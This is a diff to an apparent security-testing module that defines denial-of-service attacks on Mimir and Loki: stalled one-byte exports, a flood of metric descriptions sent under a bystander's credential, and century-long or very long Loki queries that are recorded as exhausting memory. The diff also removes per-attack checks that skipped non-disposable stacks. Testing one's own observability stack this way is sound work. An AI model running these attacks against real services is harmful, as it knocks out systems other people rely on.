@@ -14,6 +14,7 @@ from urllib.parse import quote
 
 import cramjam
 
+from stackproof.errors import StackproofError
 from stackproof.model import Backend, Signal
 from stackproof.otlp.protobuf import field
 from stackproof.waiting import until
@@ -23,12 +24,18 @@ from .payloads import REMOTE_WRITE
 from .wire import WireRequest, http1, send
 
 
-def _gauge(attack_run: AttackRun, name: str, backend: Backend = Backend.MIMIR) -> float:
-    """Return the sum of a metric of a backend's own: how much of what is shared is taken."""
+def gauge(attack_run: AttackRun, name: str, backend: Backend = Backend.MIMIR) -> float:
+    """Return the sum of a metric of a backend's own: how much of what is shared is taken.
+
+    Raises:
+        StackproofError: The backend shows no such metric, or none to anybody.
+    """
     target = attack_run.target
     url = f"{backend_url(target.stack, backend)}/metrics"
     text = target.client.pool.request("GET", url, retries=False).data.decode()
     values = re.findall(rf"^{name}(?:{{.*}})? (\S+)$", text, re.MULTILINE)
+    if not values:
+        raise StackproofError(f"there is no metric {name}: nothing is measured", where=url)
     return sum(map(float, values))
 
 
@@ -43,8 +50,6 @@ _ARRIVES_S = 3.0
 
 def _half_exports(attack_run: AttackRun) -> Iterable[str]:
     """Exports of which one byte comes: no backend may hear of them, and others are answered."""
-    if not attack_run.target.stack.disposable:
-        return
     with ExitStack() as held:
         for number in range(_HALVES):
             # Half of them ask that nothing be waited for (RFC 10036).
@@ -55,7 +60,7 @@ def _half_exports(attack_run: AttackRun) -> Iterable[str]:
             connection = held.enter_context(socket.create_connection(attack_run.gateway))
             connection.sendall(head.data)
         taken = until(
-            lambda: _gauge(attack_run, "cortex_distributor_inflight_push_requests"),
+            lambda: gauge(attack_run, "cortex_distributor_inflight_push_requests"),
             lambda seen: seen > _UNDER_WAY,
             within_s=_ARRIVES_S,
         )
@@ -85,15 +90,13 @@ def _described(names: Iterable[str]) -> bytes:
 def _descriptions(attack_run: AttackRun) -> Iterable[str]:
     """Descriptions of metrics without a series: no limit on series or samples bounds them."""
     target = attack_run.target
-    if not target.stack.disposable:
-        return
-    before = _gauge(attack_run, "cortex_ingester_memory_metadata")
+    before = gauge(attack_run, "cortex_ingester_memory_metadata")
     noisy = target.credential(target.bystander)
     names = (f"described_{attack_run.forged.run}_{number}" for number in range(_DESCRIBED))
     answer = send(
         http1(attack_run.gateway, "POST", "/api/v1/push", [noisy, *REMOTE_WRITE], _described(names))
     )
-    grown = _gauge(attack_run, "cortex_ingester_memory_metadata") - before
+    grown = gauge(attack_run, "cortex_ingester_memory_metadata") - before
     if grown > _KEPT:
         yield f"Mimir keeps {grown:.0f} descriptions in memory: {answer.describe()}"
     if not grown:
@@ -106,15 +109,13 @@ def _allocating(
     """Ask Loki, and look whether it has allocated more for that, in all, than an answer needs."""
 
     def after(attack_run: AttackRun) -> Iterable[str]:
-        if not attack_run.target.stack.disposable:
-            return
         now = int(time.time())
         window = f"start={now - hours * 3600}&end={now}&step=300"
         path = f"/loki/api/v1/{api}?query={quote(query)}&{window}"
         allocated = "go_memstats_alloc_bytes_total"
-        before = _gauge(attack_run, allocated, Backend.LOKI)
+        before = gauge(attack_run, allocated, Backend.LOKI)
         answer = send(http1(attack_run.gateway, "GET", path, [attack_run.own]))
-        grown = (_gauge(attack_run, allocated, Backend.LOKI) - before) / 1e6
+        grown = (gauge(attack_run, allocated, Backend.LOKI) - before) / 1e6
         if grown > megabytes or not answer.statuses:
             yield f"Loki allocates {grown:.0f} MB for it: {answer.describe()}"
 
@@ -179,6 +180,7 @@ EXHAUSTION: tuple[Attack, ...] = (
         "begins many exports and ends none",
         "2,100 of one byte each: Mimir 3.0.5 takes 12 GB and answers no export (observed)",
         _half_exports,
+        measures=True,
     ),
     deed(
         "flood-of-descriptions",
@@ -186,6 +188,7 @@ EXHAUSTION: tuple[Attack, ...] = (
         "max_global_metadata_per_user is off unless it is set (Mimir)",
         _descriptions,
         BACKENDS_LIMIT,
+        measures=True,
     ),
     deed(
         "long-ago",
@@ -193,6 +196,7 @@ EXHAUSTION: tuple[Attack, ...] = (
         "[100y] becomes 876,000 queries: Loki 3.7.8 takes 1 GiB, and is killed (observed)",
         _allocating("query", f'count_over_time({{service_name="open-webui"}}[{_YEARS}y])', 1, 100),
         BACKENDS_LIMIT,
+        measures=True,
     ),
     deed(
         "sum-of-a-day",
@@ -200,6 +204,7 @@ EXHAUSTION: tuple[Attack, ...] = (
         "600, cut into shards and hours: Loki 3.7.8 takes 1 GiB, and is killed (observed)",
         _allocating("query_range", "vector(1)" + "+1" * _ONES, 24, 1200),
         BACKENDS_LIMIT,
+        measures=True,
     ),
     Attack(
         name="endless-sum",
